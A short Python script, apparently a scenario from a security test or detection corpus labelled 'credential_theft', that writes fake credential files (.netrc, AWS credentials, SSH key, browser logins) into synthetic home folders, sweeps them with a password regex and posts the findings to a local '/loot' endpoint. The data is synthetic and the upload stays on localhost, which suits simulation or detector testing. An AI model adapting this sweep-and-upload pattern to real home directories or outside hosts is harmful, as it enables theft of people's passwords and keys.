"""Makes a home full of credential-like files, sweeps them for secrets and uploads what it finds.

attack_type: credential_theft
severity: 0.8
arguments: ACCOUNTS PAUSE_S
variants: 60 0.1 | 15 0.6 | 250 0.01
"""

import json
import os
import random
import re
import sys
import time
import urllib.request
from pathlib import Path

accounts, pause = int(sys.argv[1]), float(sys.argv[2])
draw = random.Random(5)
names = (".netrc", ".aws/credentials", ".ssh/id_demo", "browser/logins.json", "notes.txt")
for account in range(accounts):
    for name in names:
        path = Path(f"homes/{account}") / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"user demo{account}\npassword = {draw.getrandbits(60):x}\n" * 30)
found = []
for account in range(accounts):
    for path in sorted(Path(f"homes/{account}").rglob("*")):
        if path.is_file():
            found += re.findall(r"password = (\w+)", path.read_text())
    if account % 5 == 4:
        url = f"http://127.0.0.1:{os.environ['PEER']}/loot"
        urllib.request.urlopen(url, data=json.dumps(found).encode()).read()
        found = []
    time.sleep(pause)
